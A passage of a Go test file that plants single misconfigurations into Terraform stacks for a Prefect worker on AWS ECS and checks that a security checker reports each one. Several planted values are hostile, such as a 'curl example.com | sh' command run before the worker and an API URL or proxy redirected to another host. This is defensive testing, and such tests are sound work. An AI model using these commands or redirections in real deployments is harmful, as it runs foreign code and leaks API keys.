	{name: "a name that points elsewhere", want: `aws_ecs_task_definition.worker.container_definitions[0].extraHosts is not on the list of what is allowed: names that point elsewhere lead the API key to another server`, plant: inContainer("extraHosts", []any{anything})},
	{name: "a misspelt field", want: `aws_ecs_task_definition.worker.container_definitions[0].stoptimeout is not on the list of what is allowed: a field of the container that no rule names, or that is misspelt, changes what it may do or has no effect
aws_ecs_task_definition.worker.container_definitions[0].stopTimeout is missing: a field of the container that no rule names, or that is misspelt, changes what it may do or has no effect`, plant: renamed("stopTimeout", "stoptimeout")},
	{name: "a field in Terraform's spelling", want: `aws_ecs_task_definition.worker.container_definitions[0].health_check is not on the list of what is allowed: a field of the container that no rule names, or that is misspelt, changes what it may do or has no effect
aws_ecs_task_definition.worker.container_definitions[0].healthCheck is missing: a task that hangs would not be replaced`, plant: renamed("healthCheck", "health_check")},
	{name: "the key in clear text", want: `aws_ecs_task_definition.worker.container_definitions[0].environment[0] sets "PREFECT_API_KEY", which is not on the list of what is allowed: variables are in clear text for whoever may read the task definition, and steer where the API key is sent and what is installed`, plant: more(containers, "0.environment", map[string]any{"name": "PREFECT_API_KEY", "value": "pnu_x"})},
	{name: "the key for another server", want: `aws_ecs_task_definition.worker.container_definitions[0].environment[0].value is "https://example.com/api"; allowed is "${local.prefect_api_url}": variables are in clear text for whoever may read the task definition, and steer where the API key is sent and what is installed`, plant: inContainer("environment.0", map[string]any{"name": "PREFECT_API_URL", "value": "https://example.com/api"})},
	{name: "another secret", want: `aws_ecs_task_definition.worker.container_definitions[0].secrets is [{"name":"PREFECT_API_KEY","valueFrom":"arn:aws:secretsmanager:us-east-1:123456789012:secret:other"}]; allowed is [{"name":"PREFECT_API_KEY","valueFrom":"${aws_secretsmanager_secret.prefect_api_key.arn}"}]: the container would get a secret that is not its own, or not the one that it needs`, in: []string{"dev"}, plant: inContainer("secrets.0.valueFrom", "arn:aws:secretsmanager:us-east-1:123456789012:secret:other")},
	{name: "another image", want: `aws_ecs_task_definition.worker.container_definitions[0].image is "example.com/prefect:3"; allowed is "prefecthq/prefect:3-latest": another image runs other code with the API key`, in: []string{"ecs"}, plant: inContainer("image", "example.com/prefect:3")},
	{name: "another command", want: `aws_ecs_task_definition.worker.container_definitions[0].command is ["/bin/sh","-c","id"]; allowed is a list that starts a worker: another command runs other code with the API key`, plant: inContainer("command", []any{"/bin/sh", "-c", "id"})},
	{name: "a command before the worker's", want: `aws_ecs_task_definition.worker.container_definitions[0].command[2] is "curl example.com | sh; exec \"$@\""; allowed is the line that names the worker after its task: another command runs other code with the API key`, plant: inContainer("command.2", "curl example.com | sh; exec \"$@\"")},
	{name: "an option of the worker", want: `aws_ecs_task_definition.worker.container_definitions[0].command[9] is "--install-policy", which is no option or value that this worker has: another command runs other code with the API key`, plant: inContainer("command.9", "--install-policy")},
	{name: "another log", want: `aws_ecs_task_definition.worker.container_definitions[0].logConfiguration.logDriver is "none"; allowed is "awslogs": the log would go elsewhere, or a slow log would stop the container`, plant: inContainer("logConfiguration.logDriver", "none")},
	{name: "a log that blocks", want: `aws_ecs_task_definition.worker.container_definitions[0].logConfiguration.options.mode is "blocking"; allowed is "non-blocking": the log would go elsewhere, or a slow log would stop the container`, plant: inContainer("logConfiguration.options.mode", "blocking")},
	{name: "no health check", want: `aws_ecs_task_definition.worker.container_definitions[0].healthCheck.command is ["NONE"]; allowed is ["CMD","python","-c","import urllib.request as u; u.urlopen('http://127.0.0.1:8080/health', timeout=8)"]: a task that hangs would not be replaced`, plant: inContainer("healthCheck.command", []any{"NONE"})},
	{name: "a sidecar", want: `aws_ecs_task_definition.worker.container_definitions has a length of 2; allowed is 1: the container would be less isolated, or not start`, plant: more(containers, "", anything)},
	{name: "no isolation of processes", want: `aws_ecs_task_definition.worker.pid_mode is not on the list of what is allowed: the container would see the processes of others`, plant: set("resource.aws_ecs_task_definition.worker.pid_mode", "host")},
	{name: "a volume", want: `aws_ecs_task_definition.worker.volume is not on the list of what is allowed: a volume shows the container files of others`, plant: set("resource.aws_ecs_task_definition.worker.volume", []any{anything})},
	{name: "the network of the host", want: `aws_ecs_task_definition.worker.network_mode is "host"; allowed is "awsvpc": the container would be less isolated, or not start`, plant: set("resource.aws_ecs_task_definition.worker.network_mode", "host")},
	{name: "the execution role for the code", want: `aws_ecs_task_definition.worker.task_role_arn is "${aws_iam_role.execution.arn}"; allowed is "${aws_iam_role.task.arn}": the role may do more than its work needs`, plant: set("resource.aws_ecs_task_definition.worker.task_role_arn", "${aws_iam_role.execution.arn}")},
	{name: "a shell in the task", want: `aws_ecs_service.worker.enable_execute_command is not on the list of what is allowed: ECS Exec gives whoever may call it a shell beside the API key`, in: []string{"dev", "ecs", "own"}, plant: set("resource.aws_ecs_service.worker.enable_execute_command", true)},
	{name: "a load balancer of the service", want: `aws_ecs_service.worker.load_balancer is not on the list of what is allowed: a load balancer lets others connect to the task`, plant: set("resource.aws_ecs_service.worker.load_balancer", []any{anything})},
	{name: "no rollback", want: `aws_ecs_service.worker.deployment_circuit_breaker.rollback is false; allowed is true: the service would run otherwise than it was judged`, plant: set("resource.aws_ecs_service.worker.deployment_circuit_breaker.rollback", false)},
	{name: "a misspelt argument", want: `aws_ecs_service.worker.desired_cuont is not on the list of what is allowed: the service would run otherwise than it was judged`, plant: set("resource.aws_ecs_service.worker.desired_cuont", 1)},

	// Terraform's own words.
	{name: "changes that are not seen", want: `aws_ecs_task_definition.worker.lifecycle.ignore_changes is not on the list of what is allowed: Terraform would leave alone what somebody changed by hand`, plant: set("resource.aws_ecs_task_definition.worker.lifecycle.ignore_changes", "all")},
	{name: "what cannot be destroyed", want: `aws_vpc.main.lifecycle is not on the list of what is allowed: Terraform would leave changes alone, or refuse to remove the resource`, in: []string{"dev", "ecs", "own"}, plant: set("resource.aws_vpc.main.lifecycle", map[string]any{"prevent_destroy": true})},
	{name: "a provisioner", want: `aws_vpc.main.provisioner is not on the list of what is allowed: a provisioner runs a program on the machine that deploys`, plant: set("resource.aws_vpc.main.provisioner", []any{anything})},
	{name: "copies", want: `aws_vpc.main.count is not on the list of what is allowed: several copies or none of a resource are made, which no rule here has judged`, plant: set("resource.aws_vpc.main.count", 2)},
	{name: "another provider for one resource", want: `aws_vpc.main.provider is not on the list of what is allowed: another provider deploys the resource elsewhere, or with other keys`, plant: set("resource.aws_vpc.main.provider", "aws.other")},
	{name: "something else imported", want: `import has a length of 1; allowed is 0: what is imported is changed by the next deploy, and removed by destroy`, plant: set("import", []any{map[string]any{"to": "aws_vpc.main", "id": "vpc-1"}}), in: []string{"dev", "ecs"}},
	{name: "another role imported", want: `import[1] is {"id":"Administrator","to":"aws_iam_role.execution"}; allowed is {"id":"prefect-task-execution-role-full","to":"aws_iam_role.execution"}: what is imported is changed by the next deploy, and removed by destroy`, plant: set("import.1.id", "Administrator"), in: []string{"full"}},
	{name: "keys of AWS", want: `provider.aws[0].access_key is not on the list of what is allowed: keys of AWS would stand in the stack, which is no secret`, plant: set("provider.aws.0.access_key", "AKIA")},
	{name: "another server than AWS", want: `provider.aws[0].endpoints is not on the list of what is allowed: the provider, and the API key with it, would talk to another server than AWS`, plant: set("provider.aws.0.endpoints", []any{anything})},
	{name: "another account", want: `provider.aws[0].assume_role is not on the list of what is allowed: another role, and with it another account, would be deployed to`, in: []string{"dev", "ecs", "own"}, plant: set("provider.aws.0.assume_role", []any{anything})},
	{name: "any account", want: `provider.aws[0].allowed_account_ids is missing: another account could be deployed to by mistake`, in: []string{"full"}, plant: drop("provider.aws.0.allowed_account_ids")},
	{name: "a second provider", want: `provider.random is not on the list of what is allowed: another provider, or another setting of it, deploys elsewhere or with other keys`, plant: set("provider.random", []any{anything})},
	{name: "a provider of somebody else", want: `terraform.required_providers.aws.source is "example/aws"; allowed is "hashicorp/aws": a provider of somebody else runs with the keys of AWS`, plant: set("terraform.required_providers.aws.source", "example/aws")},
	{name: "an older Terraform", want: `terraform.required_version is ">= 1.0"; allowed is ">= 1.11": older releases have no write-only arguments, and the API key would stand in the state`, plant: set("terraform.required_version", ">= 1.0")},
	{name: "a path of this machine", want: `terraform.backend.local.path is "/home/me/terraform.tfstate"; allowed is "../../../terraform.dev.tfstate": the state would be kept elsewhere than configured, or differ on each machine`, in: []string{"dev"}, plant: set("terraform.backend.local.path", "/home/me/terraform.tfstate")},
	{name: "a state in clear text", want: `terraform.backend.s3.encrypt is false; allowed is true: the state would lie in clear text`, in: []string{"full"}, plant: set("terraform.backend.s3.encrypt", false)},
	{name: "a state in another account", want: `terraform.backend.s3.role_arn is not on the list of what is allowed: the state would be kept elsewhere than configured, or differ on each machine`, in: []string{"full"}, plant: set("terraform.backend.s3.role_arn", "arn:aws:iam::999999999999:role/x")},
	{name: "a state without a lock", want: `terraform.backend.s3.use_lockfile is missing: two deployments at once would ruin the state`, in: []string{"full"}, plant: drop("terraform.backend.s3.use_lockfile")},
	{name: "the key as a default", want: `variable.prefect_api_key.default holds a value; allowed is none: a credential would stand in the stack, which is no secret`, in: []string{"dev", "full"}, plant: set("variable.prefect_api_key.default", "pnu_x")},
	{name: "the key shown", want: `variable.prefect_api_key.sensitive is false; allowed is true: Terraform would show the credential`, in: []string{"dev", "full"}, plant: set("variable.prefect_api_key.sensitive", false)},
	{name: "the key in the plan", want: `variable.prefect_api_key.ephemeral is missing: the credential would stand in the plan`, in: []string{"dev", "full"}, plant: drop("variable.prefect_api_key.ephemeral")},
	{name: "a further variable", want: `variable.x is not on the list of what is allowed: a further variable can bring anything into the stack`, plant: set("variable.x", anything)},
	{name: "another API by default", want: `variable.prefect_api_url.default is "https://example.com/api"; allowed is "http://prefect.example.com:4200/api": a value of a deployment would be stored, shown or left to chance`, in: []string{"full"}, plant: set("variable.prefect_api_url.default", "https://example.com/api")},
	{name: "another API always", want: `locals.prefect_api_url is "https://example.com/api"; allowed is "${var.prefect_api_url != \"\" ? trimsuffix(var.prefect_api_url, \"/\") : lower(\"https://api.prefect.cloud/api/accounts/${var.prefect_account_id}/workspaces/${var.prefect_workspace_id}\")}": where the API key is sent follows from it`, plant: set("locals.prefect_api_url", "https://example.com/api")},
	{name: "the key as an output", want: `output.vpc_id.value is "${var.prefect_api_key}"; allowed is "${aws_vpc.main.id}": outputs are shown on every terminal and stand in the state`, in: []string{"dev", "full"}, plant: set("output.vpc_id.value", "${var.prefect_api_key}")},
	{name: "a further output", want: `output.x is not on the list of what is allowed: outputs are shown on every terminal and stand in the state`, plant: set("output.x", map[string]any{"value": "${local.x}"})},

	// A Prefect server in the stack.
	{name: "a server open to the internet", want: `aws_vpc_security_group_ingress_rule.server.cidr_ipv4 is not on the list of what is allowed: others than the worker, its flows and the server could connect, or the server to what it does not need
aws_vpc_security_group_ingress_rule.server.referenced_security_group_id is missing: others than the worker, its flows and the server could connect, or the server to what it does not need`, in: both, plant: func(t *testing.T, stack map[string]any) {
		set("resource.aws_vpc_security_group_ingress_rule.server.cidr_ipv4", "0.0.0.0/0")(t, stack)
		drop("resource.aws_vpc_security_group_ingress_rule.server.referenced_security_group_id")(t, stack)
	}},
	{name: "another way into the server", want: `aws_vpc_security_group_ingress_rule.x is not on the list of what is allowed: an inbound rule lets others connect to the task, and nothing needs to`, in: both, plant: set("resource.aws_vpc_security_group_ingress_rule.x", anything)},
	{name: "two servers", want: `aws_ecs_service.server.desired_count is 2; allowed is 1: two servers would run at once: schedulers start runs twice, migrations ruin the database`, in: both, plant: set("resource.aws_ecs_service.server.desired_count", 2)},
	{name: "two servers while one is replaced", want: `aws_ecs_service.server.deployment_maximum_percent is 200; allowed is 100: two servers would run at once: schedulers start runs twice, migrations ruin the database`, in: both, plant: set("resource.aws_ecs_service.server.deployment_maximum_percent", 200)},
	{name: "a worker with a shell", want: `aws_ecs_service.worker.enable_execute_command is not on the list of what is allowed: ECS Exec gives whoever may call it a shell beside the API key`, in: both, plant: set("resource.aws_ecs_service.worker.enable_execute_command", true)},
	{name: "a public database", want: `aws_db_instance.server.publicly_accessible is true; allowed is false: the database would have a public address`, in: []string{"server"}, plant: set("resource.aws_db_instance.server.publicly_accessible", true)},
	{name: "a database in clear text", want: `aws_db_instance.server.storage_encrypted is missing: the database would lie in clear text`, in: []string{"server"}, plant: drop("resource.aws_db_instance.server.storage_encrypted")},
	{name: "connections in clear text", want: `aws_db_parameter_group.server.parameter[0].value is "0"; allowed is "1": the database would take connections in clear text`, in: []string{"server"}, plant: set("resource.aws_db_parameter_group.server.parameter.0.value", "0")},
	{name: "a password in the state", want: `aws_db_instance.server.password is not on the list of what is allowed: the database would be less guarded than it was judged`, in: []string{"server"}, plant: set("resource.aws_db_instance.server.password", "x")},
	{name: "a password that is none", want: `ephemeral.aws_secretsmanager_random_password.database.password_length is 4; allowed is 40: a password could be guessed`, in: []string{"server"}, plant: set("ephemeral.aws_secretsmanager_random_password.database.password_length", 4)},
	{name: "another ephemeral value", want: `ephemeral.aws_lambda_invocation.x is not on the list of what is allowed: an ephemeral value of elsewhere is judged by no rule here`, in: both, plant: set("ephemeral.aws_lambda_invocation.x", anything)},
	{name: "a server that may do more", want: `aws_iam_role_policy.server_task.policy.Statement[0] is {"Action":["*"],"Effect":"Allow","Resource":["*"],"Sid":"ECSExec"}, which is not on the list of allowed statements: a star stands also for each action that AWS adds; so the role may do more than its work needs`, in: both, plant: statement("resource.aws_iam_role_policy.server_task.policy", 0, "Action", []any{"*"})},
	{name: "a server without a password", want: `aws_ecs_task_definition.server.container_definitions[0].secrets is [{"name":"PGPASSWORD","valueFrom":"${aws_secretsmanager_secret.database.arn}"}]; allowed is [{"name":"PGPASSWORD","valueFrom":"${aws_secretsmanager_secret.database.arn}"},{"name":"PREFECT_SERVER_API_AUTH_STRING","valueFrom":"${aws_secretsmanager_secret.prefect_api_key.arn}"}]: the server would get a secret that is not its own, or none and be open to all in the VPC`, in: []string{"server"},
		plant: inside("resource.aws_ecs_task_definition.server.container_definitions", func(t *testing.T, document any) any {
			c := document.([]any)[0].(map[string]any)
			c["secrets"] = c["secrets"].([]any)[:1]
			return document
		})},
	// What exists already.
	{name: "a VPC that nobody named", want: `data.aws_vpc.existing.id is "vpc-1"; allowed is "vpc-0123456789abcdef0": tasks would be put where nothing was checked`, in: []string{"existing", "shared"}, plant: set("data.aws_vpc.existing.id", "vpc-1")},
	{name: "a subnet that nobody checked", want: `aws_ecs_service.worker.network_configuration.subnets is ["subnet-1","${data.aws_subnet.existing_2.id}"]; allowed is ["${data.aws_subnet.existing_1.id}","${data.aws_subnet.existing_2.id}"]: the task would have a public address, or lie where one is needed and none is given`, in: []string{"existing"}, plant: set("resource.aws_ecs_service.worker.network_configuration.subnets.0", "subnet-1")},
	{name: "a group that nobody named", want: `aws_ecs_service.worker.network_configuration.security_groups is ["${aws_security_group.prefect_worker_sg.id}","sg-1"]; allowed is ["${aws_security_group.prefect_worker_sg.id}","sg-0123456789abcdef1"]: another group can let others connect to the task`, in: []string{"existing"}, plant: set("resource.aws_ecs_service.worker.network_configuration.security_groups.1", "sg-1")},
	{name: "a rule that leads elsewhere", want: `aws_vpc_security_group_egress_rule.tcp_5432_to_10_9_0_0_16.cidr_ipv4 is "0.0.0.0/0"; allowed is "10.9.0.0/16": the worker needs port 443, that of its Prefect API and what network.egress opens, and nothing else`, in: []string{"existing"}, plant: set("resource.aws_vpc_security_group_egress_rule.tcp_5432_to_10_9_0_0_16.cidr_ipv4", "0.0.0.0/0")},
	{name: "a network in an account that has one", want: `aws_vpc.main is not on the list of what is allowed: no rule here knows it, so nobody has judged what it opens, runs or costs`, in: []string{"existing"}, plant: set("resource.aws_vpc.main", anything)},
	{name: "capacity of a cluster of others", want: `aws_ecs_cluster_capacity_providers.main is not on the list of what is allowed: tasks would run on capacity that nobody chose`, in: []string{"existing"}, plant: set("resource.aws_ecs_cluster_capacity_providers.main", anything)},
	{name: "a policy on a role of others", want: `aws_iam_role_policy.execution is not on the list of what is allowed: a role gets rights that are on no list`, in: []string{"existing"}, plant: set("resource.aws_iam_role_policy.execution", anything)},
	{name: "another role than the one that was named", want: `aws_ecs_task_definition.worker.task_role_arn is "arn:aws:iam::123456789012:role/admin"; allowed is "arn:aws:iam::123456789012:role/company/flows": the role may do more than its work needs`, in: []string{"existing"}, plant: set("resource.aws_ecs_task_definition.worker.task_role_arn", "arn:aws:iam::123456789012:role/admin")},
	{name: "more rights for a role that others make", want: `output.task_role_policy.value.Statement[1] is {"Action":["ecs:*"],"Condition":{"StringEqualsIfExists":{"ecs:privileged":"false"}},"Effect":"Allow","Resource":["arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:task-definition/prefect_ecs-work-pool_*:*"],"Sid":"RegisterFlows"}, which is not on the list of allowed statements: a star stands also for each action that AWS adds; so the role may do more than its work needs`, in: []string{"shared"}, plant: statement("output.task_role_policy.value", 1, "Action", []any{"ecs:*"})},
	{name: "a registry that nobody named", want: `aws_ecs_task_definition.worker.container_definitions[0].repositoryCredentials.credentialsParameter is "x"; allowed is "arn:aws:secretsmanager:us-east-1:123456789012:secret:registry-AbCdEf": ECS would log in elsewhere, or show credentials that are not the registry's`, in: []string{"existing"}, plant: inContainer("repositoryCredentials.credentialsParameter", "x")},
	{name: "a proxy that nobody named", want: `aws_ecs_task_definition.worker.container_definitions[0].environment[0] sets "HTTPS_PROXY", which is not on the list of what is allowed: variables are in clear text for whoever may read the task definition, and steer where the API key is sent and what is installed`, plant: more(containers, "0.environment", map[string]any{"name": "HTTPS_PROXY", "value": "http://example.com:3128"})},
	{name: "a log group of others", want: `data.aws_cloudwatch_log_groups.existing.log_group_name_prefix is "/"; allowed is "/company/flows": nothing is asked for but the log groups that there are`, in: []string{"existing"}, plant: set("data.aws_cloudwatch_log_groups.existing.log_group_name_prefix", "/")},
	{name: "endpoints for all in the VPC", want: `aws_vpc_security_group_ingress_rule.endpoints_worker.cidr_ipv4 is not on the list of what is allowed: others than the worker and its server could use the endpoints
aws_vpc_security_group_ingress_rule.endpoints_worker.referenced_security_group_id is missing: others than the worker and its server could use the endpoints`, in: []string{"closed"}, plant: func(t *testing.T, stack map[string]any) {
		set("resource.aws_vpc_security_group_ingress_rule.endpoints_worker.cidr_ipv4", "0.0.0.0/0")(t, stack)
		drop("resource.aws_vpc_security_group_ingress_rule.endpoints_worker.referenced_security_group_id")(t, stack)
	}},
	{name: "an endpoint of somebody else", want: `aws_vpc_endpoint.logs.service_name is "com.amazonaws.vpce.us-east-1.vpce-svc-1"; allowed is "com.amazonaws.${var.aws_region}.logs": an endpoint connects the network to a service of AWS or of others`, in: []string{"closed"}, plant: set("resource.aws_vpc_endpoint.logs.service_name", "com.amazonaws.vpce.us-east-1.vpce-svc-1")},
	{name: "a way out of a closed network", want: `aws_nat_gateway.nat_1 is not on the list of what is allowed: no rule here knows it, so nobody has judged what it opens, runs or costs`, in: []string{"closed"}, plant: set("resource.aws_nat_gateway.nat_1", anything)},
	{name: "a network that is not protected", want: `aws_vpc.main.lifecycle is missing: what is protected could be destroyed`, in: []string{"server"}, plant: drop("resource.aws_vpc.main.lifecycle")},
	{name: "a role on another path", want: `aws_iam_role.task.path is "/"; allowed is "/flows/": policies that speak of the path would not reach the role`, in: []string{"full"}, plant: set("resource.aws_iam_role.task.path", "/")},
	{name: "a link to somewhere else", want: `output.console_logs_url.value is "https://example.com/"; allowed is an address in the console: outputs are shown on every terminal and stand in the state`, plant: set("output.console_logs_url.value", "https://example.com/")},
}

func TestEveryFaultIsFound(t *testing.T) {
	all := environments(t)
	for _, f := range faults {
		t.Run(f.name, func(t *testing.T) {
			in := f.in
			if in == nil {
				in = []string{"dev", "ecs", "full", "own"}
			}
			for _, name := range in {
				// GIVEN a golden stack with one fault
				var stack map[string]any
				if err := json.Unmarshal(golden(t, name), &stack); err != nil {
					t.Fatal(err)
				}
				f.plant(t, stack)
				file, err := json.Marshal(stack)
				if err != nil {
					t.Fatal(err)
				}
				// WHEN it is judged
				findings, err := Check(file, all[name])
				if err != nil {
					t.Fatal(err)
				}
				// THEN the fault is found, and nothing else, with the reason
				var got []string
				for _, finding := range findings {
					got = append(got, finding.String())
				}
				if want := strings.Split(f.want, "\n"); !slices.Equal(got, want) {
					t.Errorf("%s:\n got  %s\n want %s", name, strings.Join(got, "\n      "), strings.Join(want, "\n      "))
				}
			}
		})
	}
}
